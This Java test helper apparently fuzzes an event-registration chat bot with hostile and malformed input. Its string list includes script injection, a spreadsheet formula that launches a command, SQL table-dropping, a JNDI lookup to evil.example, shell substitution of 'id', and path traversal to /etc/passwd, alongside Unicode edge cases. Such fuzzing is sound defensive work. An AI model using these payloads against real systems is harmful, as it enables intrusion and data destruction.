package samvaad.testing;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** What somebody types, names themselves or puts into a file to do harm. */
public final class Hostile {

    private static final List<String> STRINGS = List.of(
            "<b>bold</b>",
            "</b></i><a href=\"https://evil.example\">x</a>",
            "<script>alert(1)</script>",
            "<b",
            "&lt;&#60;&amp;&nbsp;&#x110000;",
            "{0}",
            "{name} {code} {count, plural, one {x}}",
            "'{'}'",
            "=cmd|' /C calc'!A0",
            "+SUM(1+1)*cmd|' /C calc'!A0",
            "@import",
            "-1+1",
            "\t=1",
            "\u202e\u2066evil\u2069\u202c",
            "\u200b\u200c\u200d\u2060\ufeff",
            "\u0000\u0001\u001f\u007f\u0085",
            "\ud800",
            "\udc00\ud800",
            "👨‍👩‍👧‍👦".repeat(60),
            "👨‍👩‍👧‍👦".repeat(4096),
            "Z̸̡̢̛͖͎̺̭̪̪̈́̐̽a̵̢̛͖̺l̷̢̧̛g̷̨̛o̵̡".repeat(20),
            "a" + "\u0301".repeat(3000),
            "क्ष्म्य्र्".repeat(300),
            "ﷺ".repeat(400),
            "\n".repeat(3000),
            " ",
            "",
            "/",
            "//",
            "/start",
            "/start c-" + "0".repeat(26),
            "/start s-AAAAAAAAAAAAAAAAAAAAAAAAAA",
            "/start quick_" + "x".repeat(60),
            "/start ../../etc/passwd",
            "/START@other_bot x",
            "/checkin 000-000",
            "/staff",
            "/broadcast",
            "/attendees",
            "/export",
            "/forget",
            "/cancel",
            "'; DROP TABLE registration; --",
            "%s%n%x$(id)`id`",
            "${jndi:ldap://evil.example/a}",
            "../../../data/samvaad.db",
            "9223372036854775807",
            "-9223372036854775808",
            "1e309",
            "٠١٢٣٤٥٦٧٨٩",
            "०१२३४५६७८९",
            "+91 98765 43210",
            "98765४3210",
            "a@b.c, d@e.f",
            "null",
            "undefined",
            "true",
            "[]",
            "{}",
            "İıſK");

    /** What is repeated; names with an ellipsis end in a letter, so that what stands before it is no end that may be cut off. */
    private static final Map<String, String> MATERIAL = material();

    private Hostile() {}

    private static Map<String, String> material() {
        Map<String, String> all = new LinkedHashMap<>();
        all.put("blanks", " ");
        all.put("blanks…", " ");
        all.put("blanks and lines…", "  \n");
        all.put("lines…", "\n");
        all.put("tabs and returns…", "\t\r");
        all.put("no-break spaces…", "\u00a0");
        all.put("Hangul fillers…", "\u3164");
        all.put("zero-width joiners…", "\u200d");
        all.put("non-joiners and blanks…", "\u200c ");
        all.put("variation selectors…", "\ufe0f");
        all.put("accents", "\u0301");
        all.put("accents above and below", "\u0301\u0316\u0321");
        all.put("accents, highest class first", "\u0345".repeat(64) + "\u0301".repeat(64) + "\u0316".repeat(64));
        all.put("accents, each on a letter", "a\u0301");
        all.put("nuktas and viramas", "\u093c\u094d");
        all.put("matras", "\u093f\u0947");
        all.put("conjuncts without end", "क्");
        all.put("family emoji", "👨\u200d👩\u200d👧\u200d");
        all.put("flags", "🇮");
        all.put("skin tones", "🏽");
        all.put("keycaps", "1\ufe0f\u20e3");
        all.put("right to left", "\u202e");
        all.put("isolates…", "\u2066\u2069");
        all.put("Latin digits", "9");
        all.put("Devanagari digits", "९");
        all.put("digits of three scripts", "9९٩");
        all.put("digits one by one", "1 ");
        all.put("digits and dashes", "1-");
        all.put("digits two by two", "42.");
        all.put("mobiles", "9893012345 ");
        all.put("half mobiles", "98930-");
        all.put("plus signs", "+");
        all.put("plus and digits", "+91 ");
        all.put("at signs", "@");
        all.put("dots", ".");
        all.put("labels", "a.");
        all.put("labels and dashes", "a-");
        all.put("addresses", "a@b.");
        all.put("commas", ",");
        all.put("words and commas", "a,");
        all.put("colons", ":");
        all.put("underscores", "_");
        all.put("small words", "a b ");
        all.put("one word", "kab");
        all.put("question", "kab kahan kaise register pass ");
        all.put("Hindi words", "कब कहाँ ");
        all.put("one Hindi word", "किताब");
        all.put("one letter that is eighteen", "ﷺ");
        all.put("tags", "<b>");
        all.put("open brackets", "<");
        all.put("ampersands", "&");
        all.put("entities", "&amp");
        all.put("braces", "{");
        all.put("arguments", "{0}");
        all.put("apostrophes", "'");
        all.put("quotes of a pattern", "'{'");
        all.put("high surrogates", "\ud83d");
        all.put("low surrogates", "\udc00");
        all.put("nulls…", "\u0000");
        all.put("Tamil", "கொ");
        all.put("Hangul jamo", "\u1100\u1161\u11a8");
        all.put("Tibetan marks", "\u0f71\u0f72\u0f74");
        return all;
    }

    /** Long texts of one sort of material each, by what they are. */
    public static Map<String, String> longTexts(int utf16) {
        Map<String, String> sorts = new LinkedHashMap<>();
        MATERIAL.forEach((name, piece) -> sorts.put(
                name,
                piece.repeat(utf16 / piece.length() + 1).substring(0, utf16 - 1) + (name.endsWith("…") ? "x" : "")));
        return sorts;
    }

    /** One of these, sometimes two together, cut somewhere or with something in the middle. */
    public static String string(Random random) {
        String one = STRINGS.get(random.nextInt(STRINGS.size()));
        return switch (random.nextInt(6)) {
            case 0 -> one + STRINGS.get(random.nextInt(STRINGS.size()));
            case 1 -> one.substring(0, random.nextInt(one.length() + 1));
            case 2 -> insert(one, STRINGS.get(random.nextInt(STRINGS.size())), random);
            case 3 -> noise(random);
            default -> one;
        };
    }

    /** The same, at most so long. */
    public static String string(Random random, int most) {
        String string = string(random);
        return string.substring(0, Math.min(most, string.length()));
    }

    private static String insert(String into, String what, Random random) {
        int at = random.nextInt(into.length() + 1);
        return into.substring(0, at) + what + into.substring(at);
    }

    private static String noise(Random random) {
        StringBuilder noise = new StringBuilder();
        for (int i = random.nextInt(30); i >= 0; i--) {
            noise.append((char) (random.nextInt(3) == 0 ? random.nextInt(0x10000) : random.nextInt(0x250)));
        }
        return noise.toString();
    }
}
